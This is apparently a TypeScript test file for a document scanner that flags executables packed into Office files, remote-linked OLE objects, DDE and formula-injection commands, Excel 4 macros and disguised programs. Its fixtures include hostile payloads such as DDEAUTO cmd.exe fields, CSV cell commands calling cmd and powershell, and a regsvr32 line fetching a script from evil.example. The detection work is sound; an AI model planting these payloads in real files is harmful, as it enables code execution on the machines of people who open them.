import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';
import { office, ole } from '../../helpers/office.ts';
import { packageStream } from '../../helpers/old-object.ts';
import { zip } from '../../helpers/zip.ts';

const look = (bytes: Uint8Array | string, name: string) =>
  readFile({ bytes: Buffer.from(bytes), name, declaredType: '', inline: false });
const program = 'MZ\x90\0\x03\0\0\0\x04\0\0\0';

describe('what is packed into a document', () => {
  test('an old letter with a program behind an icon', async () => {
    const bytes = ole({
      WordDocument: Buffer.from('Please double click the picture'),
      'ObjectPool/_1/\u0001Ole10Native': packageStream('run.exe', program),
    });
    const content = await look(bytes, 'a.doc');
    expect(content).toMatchObject({ type: 'doc', traits: ['program-inside'] });
    expect(content.entries.map(({ name }) => name)).toEqual(['run.exe']);
  });

  test('a new document with an old object in it', async () => {
    const object = ole({ '\u0001Ole10Native': packageStream('run.vbs', 'CreateObject("a")') });
    const content = await look(
      office('docx', 'x', [{ name: 'word/embeddings/oleObject1.bin', content: object }]),
      'a.docx',
    );
    expect(content.traits).toEqual(['program-inside']);
  });

  test('an object that is linked to a place on the network', async () => {
    const moniker = Buffer.concat([
      Buffer.from('0100000201000000', 'hex'),
      Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
      Buffer.from('https://evil.example/a.hta\0', 'utf16le'),
    ]);
    const content = await look(ole({ WordDocument: Buffer.from('x'), 'ObjectPool/_1/\u0001Ole': moniker }), 'a.doc');
    expect(content.traits).toEqual(['external-object']);
    expect(content.links.map(({ url }) => url)).toEqual(['https://evil.example/a.hta']);
  });

  test('a table within a letter passes', async () => {
    const table = office('xlsx', 'Figures of March');
    const content = await look(ole({ WordDocument: Buffer.from('x'), 'ObjectPool/_1/Package': table }), 'a.doc');
    expect(content).toMatchObject({ traits: [], gaps: [] });
    expect(content.text).toContain('Figures of March');
  });

  test('a browser as a control: the object of the letter of 2020', async () => {
    const letter =
      '<w:document><w:object><o:OLEObject Type="Embed" ProgID="Shell.Explorer.1"/></w:object></w:document>';
    const header = { name: 'word/header1.xml', content: letter };
    expect((await look(office('docx', 'x', [header]), 'a.docx')).traits).toEqual(['external-object']);
    const control = {
      name: 'word/activeX/activeX1.xml',
      content: '<ax:ocx ax:classid="{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}"/>',
    };
    expect((await look(office('docx', 'x', [control]), 'a.docx')).traits).toEqual(['external-object']);
    const table = { name: 'word/header1.xml', content: letter.replace('Shell.Explorer.1', 'Excel.Sheet.12') };
    expect((await look(office('docx', 'x', [table]), 'a.docx')).traits).toEqual([]);
  });
});

describe('commands without any macro', () => {
  test('a field of an old letter', async () => {
    const words = Buffer.from('\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x15', 'latin1');
    expect((await look(ole({ WordDocument: words }), 'a.doc')).traits).toEqual(['command-in-field']);
  });

  test('a letter linked to its own table passes', async () => {
    const field = '<w:p><w:instrText>DDEAUTO Excel.Sheet.8 "C:\\\\figures.xls" Sheet1!R1C1</w:instrText></w:p>';
    const content = await look(office('docx', 'x', [{ name: 'word/header1.xml', content: field }]), 'a.docx');
    expect(content.traits).toEqual([]);
  });

  test('a table that takes its figures from a program', async () => {
    const link = {
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
    };
    expect((await look(office('xlsx', '', [link]), 'a.xlsx')).traits).toEqual(['command-in-field']);
    const record = Buffer.concat([Buffer.from([0xae, 1, 18, 0, 0, 0, 13, 0, 0]), Buffer.from('cmd\x03/c calc.exe')]);
    const bytes = ole({ Workbook: Buffer.concat([record.subarray(0, 22), Buffer.from([0x0a, 0, 0, 0])]) });
    expect((await look(bytes, 'a.xls')).traits).toEqual(['command-in-field']);
  });

  test.each([
    ['a.csv', '"=cmd|\'/c calc\'!A1"'],
    ['a.csv', "1;2\n+powershell|'-w hidden'!A0"],
    ['a.slk', "ID;P\nC;Y1;X1;K0;ECMD|'/c calc'!A1"],
  ])('a cell of %s: %s', async (name, source) => {
    expect((await look(source, name)).traits).toEqual(['command-in-field']);
  });

  test('a macro sheet in the old exchange form', async () => {
    expect((await look('ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")', 'a.slk')).traits).toEqual([
      'excel4-macro',
    ]);
  });

  test('a query for a table is a link', async () => {
    const { links } = await look('WEB\r\n1\r\nhttps://evil.example/q.dat\r\n', 'a.iqy');
    expect(links.map(({ url }) => url)).toEqual(['https://evil.example/q.dat']);
  });

  test('ordinary tables pass', async () => {
    const source = 'name,sum\n"=A1+A2",-5\n@home,=SUM(A1:A9)\n-cmd line,"| a pipe"\n';
    expect((await look(source, 'a.csv')).traits).toEqual([]);
    expect((await look('ID;P\nC;X1;Y1;K"a"\nC;X2;Y1;K3;ER1C1+R1C2\nE', 'a.slk')).traits).toEqual([]);
  });

  test('a script component named by a field', async () => {
    const field =
      '<w:p><w:instrText>DDEAUTO regsvr32 "/s /n /u /i:https://evil.example/window.sct scr</w:instrText><w:instrText>obj.dll"</w:instrText></w:p>';
    const content = await look(office('docx', 'x', [{ name: 'word/header1.xml', content: field }]), 'a.docx');
    expect(content.traits).toEqual(['command-in-field', 'script-component']);
  });
});

describe('words and places in tables and open documents', () => {
  test('a workbook in the binary form', async () => {
    const strings = Buffer.concat([Buffer.alloc(9), Buffer.from('see https://evil.example/x now', 'utf16le')]);
    const content = await look(office('xlsx', '', [{ name: 'xl/sharedStrings.bin', content: strings }]), 'a.xlsb');
    expect(content.links.map(({ url }) => url)).toEqual(['https://evil.example/x']);
  });

  test('an open document that starts a program, and one that does not', async () => {
    const open = (body: string) =>
      zip([
        { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
        { name: 'content.xml', content: `<office:text>${body}</office:text>` },
      ]);
    const dde = '<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c calc"/>';
    expect((await look(open(dde), 'a.odt')).traits).toEqual(['command-in-field']);
    const table = '<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="figures.ods"/>';
    expect((await look(open(table), 'a.odt')).traits).toEqual([]);
  });
});

test('a program that is named like a picture, in an archive', async () => {
  const traits = async (name: string) =>
    (await look(zip([{ name, content: Buffer.from(program, 'latin1') }]), 'a.zip')).traits;
  expect(await traits('photo.jpg')).toEqual(['program-inside', 'program-under-false-name']);
  expect(await traits('library.node')).toEqual(['program-inside']);
});
